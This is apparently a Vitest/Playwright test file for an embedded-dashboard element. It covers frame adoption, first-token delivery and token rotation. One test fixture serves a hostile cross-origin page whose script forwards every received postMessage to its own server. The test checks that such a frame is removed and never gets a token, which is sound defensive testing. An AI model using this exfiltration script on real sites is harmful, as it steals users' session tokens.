import { readFileSync } from 'node:fs';
import { createServer, type Server, type ServerResponse } from 'node:http';
import type { AddressInfo } from 'node:net';
import { fileURLToPath } from 'node:url';
import type { Browser, BrowserContext, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { UserGroupClient } from '@embedded-dashboard/client';
import { startEmulator, type RunningEmulator } from '@embedded-dashboard/emulator';
import { createBffApp, createBffNodeListener, renderDashboardFrame, renderElementScript, renderInitialToken } from '@embedded-dashboard/bff';
import { chromiumTool } from '../support/tools.js';
import { eventually, openBrowser, signAcmeSession } from './chromium-harness.js';

/*
 * The dashboard iframe rendered by the server into <embedded-dashboard> (renderDashboardFrame)
 * and adopted by the element from the shipped standalone bundle: one document load, the first
 * token (renderInitialToken) handed over by message, rotation as usual; a frame of another origin
 * is removed, never handed a token. With `#token={token}` in the template the first token rides
 * in the frame URL's fragment instead of the first message.
 */
const tool = chromiumTool();
const SECRET = 'adopt-frame-test-session-secret-0123456789';
const DASHBOARD = 'sales-overview';
const ELEMENT_SCRIPT = fileURLToPath(new URL('../../packages/element/dist/standalone/embedded-dashboard.js', import.meta.url));

/**
 * How long the page waits on the BFF for its first token. The product's 1 s default renders a page
 * without one when the BFF is slower (initial-token.test covers that fallback) and the element then
 * asks itself: one token request more, which these scenarios assert never happens. A loaded CI run
 * (two busy loops beside the suite) took longer than 1 s for the file's first token.
 */
const FIRST_TOKEN_TIMEOUT_MS = 30_000;

const listen = async (server: Server): Promise<string> => {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
};

describe.skipIf(!tool.available)('a server-rendered dashboard frame, adopted by the element (Chromium)', () => {
  let browser: Browser;
  let emulator: RunningEmulator;
  let client: UserGroupClient;
  let pages: Server;
  let evil: Server;
  let url: string;
  let evilUrl: string;
  /** What the frame of another origin was sent by the page. */
  const evilReceived: string[] = [];

  beforeAll(async () => {
    const [emu, chromium] = await Promise.all([startEmulator({ port: 0, dashboardRefreshSeconds: 1 }), openBrowser(tool.path)]);
    emulator = emu;
    browser = chromium;
    client = new UserGroupClient({ baseUrl: emulator.url, apiToken: 'dev-customer-key' });
    const app = createBffApp({ upstream: client, session: { secret: SECRET, cookie: 'sid' }, logger: { debug() {}, info() {}, warn() {}, error() {} } });
    const bff = createBffNodeListener(app);
    const element = readFileSync(ELEMENT_SCRIPT);
    // A page of another origin posing as the dashboard: says ready to anyone, reports what it gets.
    evil = createServer((req, res) => {
      if (req.method === 'POST') {
        let body = '';
        req.on('data', (chunk: Buffer) => (body += chunk.toString()));
        req.on('end', () => {
          evilReceived.push(body);
          res.end();
        });
        return;
      }
      res
        .writeHead(200, { 'content-type': 'text/html' })
        .end(
          `<!doctype html><title>evil</title><script>addEventListener('message',(e)=>fetch('/got',{method:'POST',body:JSON.stringify(e.data)}));` +
            `parent.postMessage({event:'dashboardReadyToLoad',detail:{dashboardId:'${DASHBOARD}'}},'*')</script>`,
        );
    });
    evilUrl = await listen(evil);
    const srcTemplate = `${emulator.url}/iframe/{dashboard}`;
    pages = createServer((req, res: ServerResponse) => {
      const path = new URL(req.url ?? '/', 'http://x');
      if (path.pathname.startsWith('/embed/')) return void bff(req, res);
      if (path.pathname === '/element.js') return void res.writeHead(200, { 'content-type': 'text/javascript' }).end(element);
      const mode = path.searchParams.get('frame');
      if (mode === 'fragment' || mode === 'late') {
        // The first token in the frame URL's fragment: the frame can only go out with it, and
        // needs no message to start loading its data. `late`: the frame rendered shown, and the
        // element's script loaded only after the dashboard has loaded.
        const withToken = `${srcTemplate}#token={token}`;
        const late = mode === 'late';
        const script = late
          ? `<script>addEventListener('message',(e)=>{if(e.data&&e.data.event==='dashboardLoaded'&&!window.shownAt)window.shownAt=performance.now()})</script>` +
            renderElementScript({ src: '/element.js' })
          : '<script type="module" src="/element.js"></script>';
        void (async () => {
          const first = await renderInitialToken(req, { bff: app, timeoutMs: FIRST_TOKEN_TIMEOUT_MS });
          // Say why at once rather than let the test wait for a dashboard that cannot come.
          if (!first.response) return void res.writeHead(500, { 'content-type': 'text/plain' }).end('the BFF gave no first token');
          const frame = renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate: withToken, token: first.response.token, visible: late });
          res
            .writeHead(200, { 'content-type': 'text/html; charset=utf-8', ...first.headers })
            .end(
              `<!doctype html><html><head><title>adopt</title>${script}</head><body>` +
                `<embedded-dashboard dashboard="${DASHBOARD}" src-template="${withToken}">${frame}${first.html}</embedded-dashboard></body></html>`,
            );
        })();
        return;
      }
      const frame =
        mode === 'evil'
          ? renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate: `${evilUrl}/iframe/{dashboard}` })
          : renderDashboardFrame({ dashboard: DASHBOARD, srcTemplate });
      void (async () => {
        // The frame goes out at once (its URL needs no token); the first token follows.
        res.writeHead(200, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'private, no-store' });
        res.write(
          `<!doctype html><html><head><title>adopt</title><script type="module" src="/element.js"></script></head><body>` +
            `<embedded-dashboard dashboard="${DASHBOARD}" src-template="${srcTemplate}">${frame}`,
        );
        const first = await renderInitialToken(req, { bff: app, timeoutMs: FIRST_TOKEN_TIMEOUT_MS });
        res.end(`${first.html}</embedded-dashboard></body></html>`);
      })();
    });
    url = await listen(pages);
  });

  afterAll(async () => {
    await browser?.close();
    pages?.closeAllConnections();
    evil?.closeAllConnections();
    await Promise.all([new Promise((resolve) => pages?.close(resolve)), new Promise((resolve) => evil?.close(resolve))]);
    client?.close();
    await emulator?.close();
  });

  async function open(
    frame: 'ours' | 'evil' | 'fragment' | 'late',
  ): Promise<{ context: BrowserContext; page: Page; documents: string[]; tokenRequests: string[]; jwt: string; console: string[] }> {
    const context = await browser.newContext();
    // A customer of its own for the fragment page: the BFF's per-group rotation interval must not
    // meet the rotation of the first test.
    const jwt = frame === 'fragment' || frame === 'late' ? await signAcmeSession(SECRET, frame, `Customer ${frame}`) : await signAcmeSession(SECRET);
    await context.addCookies([{ name: 'sid', value: jwt, url }]);
    const page = await context.newPage();
    const documents: string[] = [];
    const tokenRequests: string[] = [];
    // Every frame's console: a token posted to a frame still on its initial about:blank would log
    // "Failed to execute 'postMessage' … target origin … does not match".
    const console: string[] = [];
    page.on('console', (message) => {
      if (message.type() === 'error' || message.type() === 'warning') console.push(`${message.type()}: ${message.text()}`);
    });
    page.on('pageerror', (error) => console.push(`pageerror: ${error.message}`));
    page.on('request', (request) => {
      if (request.resourceType() === 'document' && request.frame() !== page.mainFrame()) documents.push(request.url());
      if (request.url().includes('/embed/token')) tokenRequests.push(request.url());
    });
    await page.goto(`${url}/?frame=${frame}`);
    return { context, page, documents, tokenRequests, jwt, console };
  }

  const dashboardFrame = (page: Page) => {
    const frame = page.frames().find((f) => f.url().startsWith(`${emulator.url}/iframe/`));
    if (!frame) throw new Error('no dashboard frame');
    return frame;
  };
  const dashboard = (page: Page) =>
    dashboardFrame(page).evaluate(() => ({ state: document.body.dataset.state, generation: Number(document.body.dataset.tokenGeneration) }));

  /**
   * Rotation: the vendor expires the customer's token; the dashboard says so; the element rotates
   * and posts the new token to the same frame (no new document, one rotate request).
   */
  async function expectRotationByMessage(page: Page, jwt: string, documents: string[], tokenRequests: string[]): Promise<void> {
    const answer = await fetch(`${url}/embed/token`, { method: 'POST', headers: { cookie: `sid=${jwt}`, 'content-type': 'application/json' }, body: '{}' });
    const { token } = (await answer.json()) as { token: string };
    expect(emulator.emulator.expireToken(token)).toBe(true);
    await eventually('the dashboard to run on a second token', async () => {
      const now = await dashboard(page);
      return now.generation === 2 && now.state === 'ready';
    });
    expect(tokenRequests.map((request) => new URL(request).pathname)).toEqual(['/embed/token/rotate']);
    expect(documents).toHaveLength(1);
  }

  it('loads the dashboard in the frame the server rendered: one document request, the first token by message, rotation as usual', async () => {
    const { context, page, documents, tokenRequests, jwt, console } = await open('ours');
    try {
      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
      expect((await dashboard(page)).state).toBe('ready');
      expect(documents).toEqual([`${emulator.url}/iframe/${DASHBOARD}`]);
      expect(tokenRequests).toEqual([]); // the first token came with the page
      // The frame is the server's light-DOM child, shown through the slot; the element made none.
      expect(await page.locator('embedded-dashboard > iframe[slot=frame]').count()).toBe(1);
      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelectorAll('iframe').length)).toBe(0);
      const box = await page.locator('embedded-dashboard > iframe').boundingBox();
      expect(box!.height).toBeGreaterThan(100);
      // No postMessage refused by a frame still on about:blank, nothing else logged (the 401s of
      // the rotation below are the dashboard's own, by design).
      expect(console.join('\n')).toBe('');

      await expectRotationByMessage(page, jwt, documents, tokenRequests);
    } finally {
      await context.close();
    }
  });

  it('with the first token in the frame URL fragment: the dashboard loads without a message, forgets the fragment, and rotates by message', async () => {
    const { context, page, documents, tokenRequests, jwt, console } = await open('fragment');
    try {
      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
      // One document, requested without the fragment (a fragment never goes to a server).
      expect(documents).toEqual([`${emulator.url}/iframe/${DASHBOARD}`]);
      expect(tokenRequests).toEqual([]);
      expect(await page.locator('embedded-dashboard > iframe[slot=frame]').count()).toBe(1);
      // One token generation: the element's message with the same token changed nothing.
      expect(await dashboard(page)).toEqual({ state: 'ready', generation: 1 });
      // The dashboard dropped the token from its URL once read.
      expect(await dashboardFrame(page).evaluate(() => location.href)).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
      expect(console.join('\n')).toBe('');

      await expectRotationByMessage(page, jwt, documents, tokenRequests);
    } finally {
      await context.close();
    }
  });

  it('with the frame rendered shown and the element loaded after the dashboard: no skeleton or hiding over it, then ready with its height, one load event', async () => {
    const context = await browser.newContext();
    const jwt = await signAcmeSession(SECRET, 'late', 'Customer late');
    await context.addCookies([{ name: 'sid', value: jwt, url }]);
    // From the first host frame on: every animation frame, whether the element hides the
    // dashboard (a skeleton, or the frame's slot pending), and each dashboard-load event.
    await context.addInitScript(() => {
      if (window !== window.top) return;
      const seen = ((window as unknown as { seen: { covered: number; frames: number; defined: number; loads: number } }).seen = {
        covered: 0,
        frames: 0,
        defined: 0,
        loads: 0,
      });
      addEventListener('dashboard-load', () => seen.loads++);
      const tick = () => {
        seen.frames++;
        if (customElements.get('embedded-dashboard')) seen.defined++;
        const root = document.querySelector('embedded-dashboard')?.shadowRoot;
        if (root?.querySelector('.skeleton, slot.pending')) seen.covered++;
        requestAnimationFrame(tick);
      };
      requestAnimationFrame(tick);
    });
    const page = await context.newPage();
    const documents: string[] = [];
    const tokenRequests: string[] = [];
    page.on('request', (request) => {
      if (request.resourceType() === 'document' && request.frame() !== page.mainFrame()) documents.push(request.url());
      if (request.url().includes('/embed/token')) tokenRequests.push(request.url());
    });
    try {
      await page.goto(`${url}/?frame=late`);
      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
      const at = await page.evaluate(() => ({
        shownAt: (window as unknown as { shownAt?: number }).shownAt,
        script: performance.getEntriesByType('resource').find((entry) => entry.name.endsWith('/element.js'))?.startTime,
      }));
      // The dashboard had loaded before the element's script was even requested.
      expect(at.shownAt).toBeGreaterThan(0);
      expect(at.script).toBeGreaterThan(at.shownAt!);
      expect(documents).toEqual([`${emulator.url}/iframe/${DASHBOARD}`]);
      expect(tokenRequests).toEqual([]);
      expect(await dashboard(page)).toEqual({ state: 'ready', generation: 1 });
      // Two more animation frames, so the watch saw the element ready too; then it must have
      // watched both before the element was defined and after (not a count of frames, which a
      // fast machine finishes in under ten: seen once on a quiet CI run).
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve))));
      const seen = await page.evaluate(() => (window as unknown as { seen: { covered: number; frames: number; defined: number; loads: number } }).seen);
      expect(seen.defined).toBeGreaterThanOrEqual(2);
      expect(seen.frames).toBeGreaterThan(seen.defined);
      expect(seen.covered).toBe(0);
      expect(seen.loads).toBe(1);
      // The height the dashboard repeated on the element's token, applied.
      expect(
        await page.locator('embedded-dashboard > iframe').evaluate((frame) => getComputedStyle(frame).getPropertyValue('--embedded-dashboard-height')),
      ).toMatch(/^\d+px$/);
    } finally {
      await context.close();
    }
  });

  it('removes a server-rendered frame of another origin: the element loads its own, and that frame is never sent a token', async () => {
    evilReceived.length = 0;
    const { context, page, documents } = await open('evil');
    try {
      await eventually('the element to be ready', async () => (await page.locator('embedded-dashboard').getAttribute('state')) === 'ready');
      expect(await page.locator('embedded-dashboard > iframe').count()).toBe(0);
      expect(await page.evaluate(() => document.querySelector('embedded-dashboard')!.shadowRoot!.querySelector('iframe')!.src)).toBe(
        `${emulator.url}/iframe/${DASHBOARD}`,
      );
      expect((await dashboard(page)).state).toBe('ready');
      expect(documents[documents.length - 1]).toBe(`${emulator.url}/iframe/${DASHBOARD}`);
      expect(evilReceived).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
